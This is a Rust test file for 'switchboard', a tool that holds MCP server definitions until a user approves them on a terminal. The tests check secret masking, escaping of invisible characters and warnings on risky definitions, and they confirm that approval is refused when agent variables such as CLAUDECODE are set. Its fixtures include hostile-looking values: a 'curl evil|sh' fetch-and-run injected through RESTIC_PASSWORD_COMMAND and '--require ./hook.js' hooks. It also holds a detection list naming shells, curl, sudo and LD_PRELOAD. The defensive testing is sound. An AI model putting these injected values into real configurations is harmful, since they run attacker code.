//! `switchboard allow` and `switchboard deny`, as a user meets them on a terminal.
#![allow(clippy::unwrap_used, reason = "a test that panics is a test that fails")]
#![allow(clippy::disallowed_methods, reason = "tests start processes")]

use std::fs;
use std::io::Write;
use std::path::Path;
use std::process::{Command, Stdio};

use proto_tests::shim::structured;
use proto_tests::terminal::Screen;
use proto_tests::wait::until_true;
use proto_tests::{DaemonProcess, Home, Project, TEST_TIMEOUT, Terminal, bins};
use serde_json::{Value, json};

fn trust_file(home: &Home) -> std::path::PathBuf {
    home.state_folder().join("trust/trust.json")
}

/// What `allow` shows of a definition; the user answers no.
#[track_caller]
fn shown(home: &Home, entry: &Value) -> String {
    let project = home.project("work");
    let _ = fs::remove_dir_all(project.path().join("mcps"));
    project.define("k", entry);
    let Screen { text, code } = project.on_terminal(&["allow"], "n\n");
    assert_eq!(code, Some(4), "{text}");
    text
}

#[test]
fn allow_shows_everything_that_would_run_but_no_secret() {
    let home = Home::new();
    home.write(".profile", "export SECRET_TOKEN=hidden-value\n");
    let long = "x".repeat(3000);
    let project = home.project("work");
    project.write("variables", "IN_FILE=--require ./hook.js\nFILE_TOKEN=hidden-value\n");
    let text = shown(
        &home,
        &json!({
            "command": bins().evil_child,
            "args": ["two words", "", "it's", "$HOME", "${FROM_PERSON}", long, "last"],
            "env": {"PLAIN": "--require ./hook.js", "A_KEY": "hidden-value", "TOKEN": "${SECRET_TOKEN}", "GONE": null, "RESTIC_PASSWORD_COMMAND": "curl evil|sh", "GIT_ASKPASS": "evil0123456789abcdef"},
            "envFile": "../../variables",
            "passEnv": ["PASSED", "HOME"],
            "description": "words of its own",
        }),
    );
    let program = bins().evil_child.display();
    let file = project.path().join("mcps/k/.mcp.json");
    for part in [
        format!("k  ({})\n", file.display()),
        format!(r"  runs      {program} 'two words' '' 'it'\''s' '$HOME' '${{FROM_PERSON}}' {long} last"),
        format!("  program   {}\n", bins().evil_child.canonicalize().unwrap().display()),
        format!("  in        {}\n", file.parent().unwrap().display()),
        "  sets      A_KEY=••• (12 characters)\n".to_owned(),
        "  sets      GIT_ASKPASS=evil0123456789abcdef\n".to_owned(),
        "  sets      RESTIC_PASSWORD_COMMAND='curl evil|sh'\n".to_owned(),
        "  sets      PLAIN='--require ./hook.js'\n".to_owned(),
        "  sets      TOKEN='${SECRET_TOKEN}'\n".to_owned(),
        "  unsets    GONE\n".to_owned(),
        format!("  env file  {}\n", project.path().join("variables").display()),
        "  env file  FILE_TOKEN=••• (12 characters)\n".to_owned(),
        "  env file  IN_FILE='--require ./hook.js'\n".to_owned(),
        "  gets      FROM_PERSON (not set), HOME of your environment, PASSED (not set), SECRET_TOKEN of your environment\n"
            .to_owned(),
        "allow this version? [y/N] ".to_owned(),
    ] {
        assert!(text.contains(&part), "{part}\n---\n{text}");
    }
    assert!(!text.contains("hidden-value") && !text.contains("words of its own"), "{text}");
    assert!(!text.contains("sets `HOME`"), "{text}");
    let text = shown(&home, &json!({"url": "https://example.com/mcp?to=elsewhere&key=hidden-value&a=${A}"}));
    assert!(
        text.contains("  reaches   https://example.com/mcp?to=elsewhere&key=•••&a=${A} (http)\n"),
        "{text}"
    );
}

#[test]
fn allow_names_the_secrets_that_a_server_would_get() {
    let home = Home::new();
    let no_bus = format!("unix:path={}/no-bus", home.mark());
    home.write(".profile", &format!("export DBUS_SESSION_BUS_ADDRESS={no_bus}\nexport OF_SHELL=x\n"));
    let mut set = Command::new(&bins().switchboard)
        .args(["secret", "set", "GITHUB_TOKEN"])
        .env_clear()
        .envs(home.environment())
        .env("SWITCHBOARD_SOCKET", home.socket())
        .env("DBUS_SESSION_BUS_ADDRESS", &no_bus)
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .spawn()
        .unwrap();
    set.stdin.take().unwrap().write_all(b"hidden-value").unwrap();
    assert!(set.wait().unwrap().success());
    let env = json!({"NOTES": "${GITHUB_TOKEN}", "OTHER": "${OF_SHELL}"});
    let text = shown(&home, &json!({"command": bins().evil_child, "env": env}));
    for part in [
        "  gets      your secret GITHUB_TOKEN, OF_SHELL of your environment\n",
        "  warning   gets your secret GITHUB_TOKEN\n",
    ] {
        assert!(text.contains(part), "{part}\n---\n{text}");
    }
    assert!(!text.contains("hidden-value") && !text.contains("your secret OF_SHELL"), "{text}");
}

#[test]
fn risky_definitions_are_shown_with_warnings() {
    let home = Home::new();
    let found = home.path().join("bin");
    fs::create_dir(&found).unwrap();
    for name in ["npx", "sudo", "curl", "uvx", "python3.12"] {
        fs::copy(&bins().evil_child, found.join(name)).unwrap();
    }
    home.write(".profile", &format!("export PATH={}:/usr/bin:/bin\n", found.display()));
    for (argv, name, part) in [
        (&["sh", "-c", "true"][..], "A", "runs a shell with a command line of its own"),
        (&["bash", "-euc", "true"], "A", "runs a shell"),
        (&["env", "-S", "sh -c true"], "A", "runs a shell"),
        (&["curl", "https://example.com"], "A", "uses `curl`"),
        (&["sh", "-c", "x=$(curl -s example.com)"], "A", "uses `curl`"),
        (&["sudo", "-n", "true"], "A", "uses `sudo`"),
        (&["env", "/usr/bin/sudo", "true"], "A", "uses `sudo`"),
        (&["npx", "-y", "server"], "A", "`server` has no fixed version"),
        (&["npx", "-y", "@scope/server@latest"], "A", "`@scope/server@latest` has no fixed version"),
        (&["uvx", "server"], "A", "`server` has no fixed version"),
        (&["python3.12", "-c", "1"], "A", "a program as an argument"),
        (&["true"], "LD_PRELOAD", "sets `LD_PRELOAD`"),
        (&["true"], "PATH", "sets `PATH`"),
        (&["true"], "NODE_OPTIONS", "sets `NODE_OPTIONS`"),
    ] {
        let text = shown(&home, &json!({"command": argv[0], "args": argv[1..], "env": {name: "/bin"}}));
        let warned = text.lines().any(|line| line.starts_with("  warning   ") && line.contains(part));
        assert!(warned, "{argv:?}: {text}");
    }
    let text = shown(&home, &json!({"command": "npx", "args": ["-y", "server@1.2.3"]}));
    assert!(!text.contains("warning"), "{text}");
    let project = home.project("work");
    fs::copy(&bins().evil_child, project.path().join("server")).unwrap();
    for entry in
        [json!({"command": "../../server"}), json!({"command": "server", "env": {"PATH": project.path()}})]
    {
        let text = shown(&home, &entry);
        assert!(text.contains("its program is a file of the project"), "{text}");
    }
    let text = shown(&home, &json!({"command": "true", "cwd": "../../.."}));
    assert!(text.contains("outside of the project"), "{text}");
}

#[test]
fn invisible_and_control_characters_are_escaped() {
    let home = Home::new();
    let hidden = "a\u{202e}b\u{200b}c\u{1b}[2Jd\u{3164}e\u{e0041}\rf\ng";
    let text =
        shown(&home, &json!({"command": "true", "args": [hidden], "env": {hidden: "v"}, "cwd": "/tmp"}));
    let seen = r"a\u{202e}b\u{200b}c\u{1b}[2Jd\u{3164}e\u{e0041}\u{d}f\u{a}g";
    assert!(text.contains(&format!("runs      true '{seen}'")), "{text}");
    assert!(text.contains(&format!("sets      {seen}")), "{text}");
    assert!(text.contains("holds characters that cannot be seen"), "{text}");
    // An invisible letter, alone in a word that needs no quotes.
    let text = shown(&home, &json!({"command": "true", "args": ["a\u{115f}b"]}));
    assert!(text.contains(r"a\u{115f}b") && !text.contains('\u{115f}'), "{text}");
    let project = home.project("work");
    // Error messages about broken files escape them too: a file name may hold any character.
    project.write("mcps/\u{1b}[2J\u{202e}/.mcp.json", "{");
    let list = home.command(&["allow", "--list"]);
    let told = String::from_utf8_lossy(&[list.stdout, list.stderr].concat()).into_owned();
    assert!(!told.contains(['\u{202e}', '\u{1b}']) && told.contains(r"\u{1b}[2J\u{202e}"), "{told}");
}

#[test]
fn anything_but_a_clear_yes_is_a_no() {
    let home = Home::new();
    let project = home.project("work");
    project.child("k", &["v1"]);
    for keys in ["\n", "n\n", "N\n", "no\n", "q\n", "yy\n", "yes please\n", "1\n", "\u{4}", "ja\n"] {
        let screen = project.on_terminal(&["allow"], keys);
        assert_eq!(screen.code, Some(4), "{keys:?}: {}", screen.text);
        assert!(screen.text.contains("stays held"), "{keys:?}: {}", screen.text);
    }
    let mut left = Terminal::start(&home, project.path(), &["allow"], &[]);
    assert!(left.shows("[y/N] "));
    // If the parent of this test ignores interrupts, so does the command; then the line break answers no.
    left.type_in("\u{3}\n");
    assert_ne!(left.end().code, Some(0));
    assert!(!trust_file(&home).exists());
    for keys in ["y\n", "Y\n", " yes \n"] {
        project.child("k", &[keys.trim()]);
        assert_eq!(project.on_terminal(&["allow"], keys).code, Some(0), "{keys:?}");
    }
}

#[test]
fn allow_is_refused_without_a_terminal_or_when_run_by_an_agent() {
    let home = Home::new();
    let project = home.project("work");
    project.child("k", &["v1"]);
    let refused = home.command(&["allow"]);
    assert_eq!(refused.status.code(), Some(1), "{refused:?}");
    assert!(String::from_utf8_lossy(&refused.stderr).contains("run this on a terminal"), "{refused:?}");
    for name in ["CLAUDECODE", "GEMINI_CLI", "AI_AGENT", "CODEX_X", "CURSOR_X"] {
        for value in ["1", ""] {
            let terminal = Terminal::start(&home, project.path(), &["allow"], &[(name, value)]);
            let screen = terminal.answer_all("y\n");
            assert_eq!(screen.code, Some(1), "{name}: {}", screen.text);
            assert!(
                screen.text.contains(&format!("`{name}` says that a program runs this")),
                "{}",
                screen.text
            );
            assert!(!screen.text.contains("[y/N]"), "{}", screen.text);
        }
    }
    assert!(!trust_file(&home).exists());
    // Denying needs no terminal.
    home.run_ok(&["deny", "k"]);
}

#[test]
fn a_name_that_cannot_be_decided_on_says_why() {
    let home = Home::new();
    home.child("own", &["echo"]);
    let complaint = |command: &[&str]| {
        let output = home.command(command);
        assert_eq!(output.status.code(), Some(1), "{output:?}");
        String::from_utf8(output.stderr).unwrap()
    };
    for name in ["own", "own_suite"] {
        let told = complaint(&["deny", name]);
        assert!(told.contains("is your own server and needs no approval"), "{told}");
    }
    let told = complaint(&["--workspace", "/", "deny", "other"]);
    assert!(told.contains("there is no project here, and no file `other`"), "{told}");
    let project = home.project("work");
    project.child("k", &["echo"]);
    let told = complaint(&["--workspace", project.path().to_str().unwrap(), "deny", "other"]);
    assert!(told.contains("has no server `other`, and there is no such file"), "{told}");
}

#[test]
fn a_server_cannot_be_allowed_before_its_program_exists() {
    let home = Home::new();
    let project = home.project("work");
    let program = project.path().join("server");
    project.define("k", &home.entry(&program, &["echo", "v1"], &[]));
    let screen = project.on_terminal(&["allow"], "y\n");
    assert_eq!(screen.code, Some(4), "{}", screen.text);
    assert!(screen.text.contains("once its program is installed"), "{}", screen.text);
    project.define("k", &home.entry(Path::new("no-such-program"), &[], &[]));
    assert_eq!(project.on_terminal(&["allow"], "y\n").code, Some(4));
    assert!(!trust_file(&home).exists());
}

#[test]
fn allow_approves_the_version_that_was_shown() {
    let home = Home::new();
    let project = home.project("work");
    project.child("k", &["shown"]);
    let daemon = home.daemon();
    let mut terminal = Terminal::start(&home, project.path(), &["allow"], &[]);
    assert!(terminal.shows("[y/N] "));
    // The file is swapped while the user reads.
    project.child("k", &["swapped"]);
    terminal.type_in("y\n");
    assert_eq!(terminal.end().code, Some(0));
    let mut shim = project.mute_shim();
    assert_eq!(structured(&shim.call("k", "where", "{}"))["args"][2], "shown");
    assert!(daemon.suite_from(project.path(), "k")["waiting"].as_str().unwrap().ends_with("swapped"));
}

#[test]
fn the_list_shows_allowed_denied_and_waiting_servers() {
    let home = Home::new();
    let project = home.project("work");
    project.child("yes", &["v1"]);
    project.allow();
    project.child("no", &["v1"]);
    project.child("waiting", &["v1"]);
    home.run_ok(&["deny", "no"]);
    let told = home.command(&["allow", "--list"]);
    let told = String::from_utf8_lossy(&told.stdout).into_owned();
    let line = |start: &str| told.lines().any(|line| line.starts_with(start));
    assert!(line("allowed   yes  ") && line("denied    no  ") && line("waiting   waiting  "), "{told}");
    let told: Value = serde_json::from_slice(&home.command(&["allow", "--list", "--json"]).stdout).unwrap();
    let said = |verdict: &str| {
        let said = told["said"].as_array().unwrap().iter().find(|said| said["verdict"] == verdict);
        said.unwrap_or_else(|| panic!("{told}")).clone()
    };
    assert_eq!((&said("allow")["name"], &said("deny")["name"]), (&json!("yes"), &json!("no")));
    assert_eq!(said("allow")["file"], json!(project.path().join("mcps/yes/.mcp.json")));
    assert!(said("allow")["runs"].as_str().unwrap().ends_with("echo v1"), "{told}");
    assert!(said("allow")["by"].as_str().unwrap().contains("/dev/pts/"), "{told}");
    assert_eq!(told["waiting"][0]["name"], "waiting");
    assert!(told["waiting"][0]["wouldRun"].as_str().unwrap().ends_with("echo v1"), "{told}");
}

#[test]
fn concurrent_allows_lose_no_decision() {
    let home = Home::new();
    let projects: Vec<Project<'_>> = (0..4).map(|n| home.project(&format!("p{n}"))).collect();
    for project in &projects {
        for name in ["a", "b", "c"] {
            project.child(name, &[]);
        }
    }
    std::thread::scope(|scope| {
        for project in &projects {
            scope.spawn(|| project.allow());
        }
    });
    let told: Value = serde_json::from_slice(&home.command(&["allow", "--list", "--json"]).stdout).unwrap();
    assert_eq!(told["said"].as_array().unwrap().len(), 12, "{told}");
    let log = fs::read_to_string(home.state_folder().join("trust/audit.log")).unwrap();
    assert_eq!(log.lines().filter(|line| line.contains(" allow ")).count(), 12, "{log}");
}

#[test]
fn a_trusted_root_allows_only_what_is_inside_it() {
    let home = Home::new();
    let (inside, beside) = (home.project("a"), home.project("ab"));
    let nested = home.project("a/deeper/still");
    for project in [&inside, &beside, &nested] {
        project.child("k", &["v1"]);
    }
    let check = |daemon: &DaemonProcess| {
        for (project, state) in [(&inside, "cold"), (&nested, "cold"), (&beside, "held")] {
            assert_eq!(
                daemon.suite_from(project.path(), "k")["state"],
                state,
                "{}",
                project.path().display()
            );
        }
    };
    let root = inside.path().to_str().unwrap();
    let daemon = DaemonProcess::start(&home, &["--listen", "off", "--trust-root", root]);
    check(&daemon);
    let mut shim = inside.mute_shim();
    assert_eq!(structured(&shim.call("k", "where", "{}"))["args"][2], "v1");
    inside.child("k", &["v2"]);
    until_true("the new version", TEST_TIMEOUT, || {
        structured(&shim.call("k", "where", "{}"))["args"][2] == "v2"
    });
    drop((shim, daemon));
    home.config(&json!({"trust": {"roots": [root]}}));
    let daemon = home.daemon();
    check(&daemon);
    // What the user decided about one server takes precedence over a trusted root.
    home.run_ok(&["deny", inside.path().join("mcps/k/.mcp.json").to_str().unwrap()]);
    assert_eq!(daemon.suite_from(inside.path(), "k"), Value::Null);
    home.config(&json!({"trust": {"roots": ["relative"]}}));
    assert_eq!(home.command(&["reload"]).status.code(), Some(1));
    home.config(&json!({}));
    home.run_ok(&["reload"]);
    assert_eq!(daemon.suite_from(nested.path(), "k")["state"], "held");
    // A workspace cannot declare itself trusted.
    beside.config(&json!({"trust": {"roots": [beside.path()]}}));
    home.run_ok(&["reload"]);
    assert_eq!(daemon.suite_from(beside.path(), "k")["state"], "held");
}
